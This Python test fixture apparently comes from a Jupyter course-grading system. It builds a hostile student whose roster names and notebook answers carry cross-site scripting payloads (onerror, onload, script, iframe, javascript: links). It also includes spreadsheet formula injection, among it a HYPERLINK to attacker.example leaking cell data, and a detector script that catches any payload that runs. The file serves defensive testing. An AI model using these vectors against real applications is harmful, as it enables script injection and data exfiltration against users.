"""A student who tries to run script in whatever page shows her work: her notebooks, her roster
entry, and how to tell whether any of her script ran.

Every payload, if it ever runs, does three things a test can see: sets the page's title to
``mallory-ran:<vector>``, requests ``/mallory-ran/<vector>`` from the page's server (a 404 that
Jupyter logs), and logs the same to the console. ``DETECTOR`` hooks the first and the last in
every frame of a page before any of its scripts run.
"""

from __future__ import annotations

import nbformat

from penguin_course.course import notebooks

STUDENT = "mallory"
MARK = "mallory-ran"
# Her roster entry: names and e-mail that a learning platform let her choose.
FIRST_NAME = f"<img src=x onerror=\"document.title='{MARK}:first-name'\">"
LAST_NAME = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
EMAIL = "=1+1@example.org"
LMS_ID = "@SUM(1+1)"


def js(vector: str) -> str:
    """What each payload runs (single quotes only: it sits in double-quoted attributes)."""
    return f"document.title='{MARK}:{vector}';fetch('/{MARK}/{vector}');console.log('{MARK}:{vector}')"


def markup(vector: str) -> str:
    """Markdown and HTML that would run ``js`` in a browser that renders it as it is."""
    return (f"<img src=x onerror=\"{js(vector + '-img')}\"> <script>{js(vector + '-script')}</script>\n"
            f"<svg onload=\"{js(vector + '-svg-onload')}\"><script>{js(vector + '-svg-script')}</script></svg>\n"
            f"<iframe srcdoc=\"<script>{js(vector + '-iframe')}</script>\"></iframe>\n"
            f"<form action=\"/api/contents\"><input name=x><button>send</button></form>"
            f"<object data=\"javascript:{js(vector + '-object')}\"></object><embed src=\"javascript:x\">\n"
            f"<a href=\"javascript:{js(vector + '-a-href')}\">a link</a>\n\n"
            f"[a markdown link](javascript:{js(vector + '-md-link').replace('(', '%28').replace(')', '%29')})\n\n"
            f"$\\text{{<img src=x onerror=\"{js(vector + '-math')}\">}}$\n")


WRITTEN_ANSWER = ("The count grows with the number of hidden neurons: each one adds a weight per input, "
                  "one per output and a bias.\n\n" + markup("written-answer"))
SVG_OUTPUT = (f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js("svg-output-onload")}">'
              f'<script>{js("svg-output-script")}</script><circle r="5"/></svg>')
# Appended to her first answer of notebook 1: outputs of every kind that can carry script.
DISPLAYS = f"""
from IPython.display import HTML, Javascript, Markdown, SVG, display
display(HTML({markup('html-output')!r}))
display(Javascript({js('javascript-output')!r}))
display(SVG({SVG_OUTPUT!r}))
display(Markdown({markup('markdown-output')!r}))
display({{"text/html": {markup('isolated-output')!r}}}, metadata={{"text/html": {{"isolated": True}}}}, raw=True)
print({markup('printed')!r})
"""


def notebooks_of(release, solutions_of) -> dict[str, nbformat.NotebookNode]:
    """Her four notebooks: every exercise solved (``solutions_of(name)``), the payloads in notebook 1's
    first answer, in notebook 2's written answer, and in a markdown and a raw HTML cell she added."""
    handed_in = {}
    for path in sorted(release.glob("*.ipynb")):
        answers = solutions_of(path.name)
        notebook = notebooks.read(path)
        solution_cells = [notebooks.grade_id(cell) for cell in notebook.cells if notebooks.is_solution(cell)]
        if path.name.startswith("1-"):
            first_code = next(cell for cell in notebook.cells if notebooks.is_solution(cell) and cell.cell_type == "code")
            answers[notebooks.grade_id(first_code)] += "\n" + DISPLAYS
        written = [cell for cell in notebook.cells if notebooks.is_solution(cell) and cell.cell_type == "markdown"]
        for cell in written:
            answers[notebooks.grade_id(cell)] = WRITTEN_ANSWER
        notebook = notebooks.fill(notebook, {cell: answers[cell] for cell in solution_cells if cell in answers})
        if written:
            notebook.cells.append(nbformat.v4.new_markdown_cell(markup("added-markdown-cell")))
            notebook.cells.append(nbformat.v4.new_raw_cell(markup("raw-cell"), metadata={"format": "text/html"}))
        handed_in[path.name] = notebook
    return handed_in


# Run in every frame before the page's own scripts: whatever sets the title, logs or fetches with
# the mark is reported to the test (``report_hostile``, a binding of the browser context).
DETECTOR = """(() => {
  const mark = %r;
  const report = (what) => { try { window.report_hostile(String(what)); } catch (error) {} };
  const title = Object.getOwnPropertyDescriptor(Document.prototype, 'title');
  Object.defineProperty(Document.prototype, 'title', {
    configurable: true,
    get() { return title.get.call(this); },
    set(value) { if (String(value).includes(mark)) report('document.title = ' + value); title.set.call(this, value); },
  });
  const fetch = window.fetch;
  window.fetch = function (...args) {
    if (String(args[0]).includes(mark)) report('fetch ' + args[0]);
    return fetch.apply(this, args);
  };
  for (const level of ['log', 'info', 'warn', 'error']) {
    const original = console[level];
    console[level] = function (...args) {
      if (args.join(' ').includes(mark)) report('console.' + level + ' ' + args.join(' '));
      return original.apply(this, args);
    };
  }
})();""" % MARK
